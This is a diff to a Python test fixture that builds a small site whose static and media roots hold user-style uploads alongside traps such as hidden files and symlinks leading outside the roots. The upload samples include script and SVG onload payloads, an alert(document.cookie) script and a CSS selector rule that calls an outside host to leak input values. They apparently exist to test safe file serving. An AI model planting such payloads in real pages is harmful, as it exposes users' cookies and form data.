@@ -1,6 +1,7 @@
 """A small site with both roots filled the way users fill them, and with traps beside them."""
 
 import os
+import time
 from dataclasses import dataclass
 from email.utils import formatdate
 from io import BytesIO
@@ -27,6 +28,9 @@ UPLOADS = {
     "jpg": ("holiday.jpg", b"\xff\xd8\xff" + bytes(range(256)) * 1171 + b"x" * 221),
     "html": ("page.html", b"<script>alert(1)</script>"),
     "svg": ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+    "js": ("widget.js", b"alert(document.cookie)"),
+    "style": ("theme.css", b"input[value^=a] { background: url(//elsewhere/a) }"),
+    "wasm": ("game.wasm", b"\0asm\x01\0\0\0"),
     "wav": ("ping.wav", b"RIFF....WAVE"),
     "blob": ("data.qqq", b"\0\1\2"),
     "spaces": ("größe 1.png", PIXEL + b"!"),
@@ -93,6 +97,10 @@ def _stored(logical: str) -> str:
 
 
 def _facts(short: str, path: Path) -> dict[str, str]:
+    # An hour old: a date is believed if it was a minute ago (RFC 9110 section 8.8.2.2), and whether
+    # a test comes that early depends on the machine.
+    hour_ago_s = int(time.time()) - 3600
+    os.utime(path, (hour_ago_s, hour_ago_s))
     status = path.stat()
     named = fingerprint.parse(path.name)
     tag = named.digest if named else f"{status.st_size:x}-{status.st_mtime_ns:x}"
@@ -111,6 +119,10 @@ def _static_facts(static: Path, css: str) -> dict[str, str]:
         "css.size": str((static / css).stat().st_size),
         "css.br.size": str((static / f"{css}.br").stat().st_size),
     }
+
+
+HIDDEN = (".roots/staging/half", ".roots/quarantine/waits.txt", ".htaccess")
+"""What is in the media root and never leaves it."""
 
 
 def _write(folder: Path, files: dict[str, bytes]) -> None:
@@ -134,7 +146,7 @@ def _traps(folder: Path, static: Path, media: Path) -> None:
         ),
     )
     _write(static, {".git/config": b"secret", ".roots/lock": b"secret"})
-    _write(media, {".roots/staging/half": b"secret", ".htaccess": b"secret"})
+    _write(media, dict.fromkeys(HIDDEN, b"secret"))
     for root in (static, media):
         (root / "outside.txt").symlink_to(folder / "secret.txt")
         (root / "outside").symlink_to(folder)
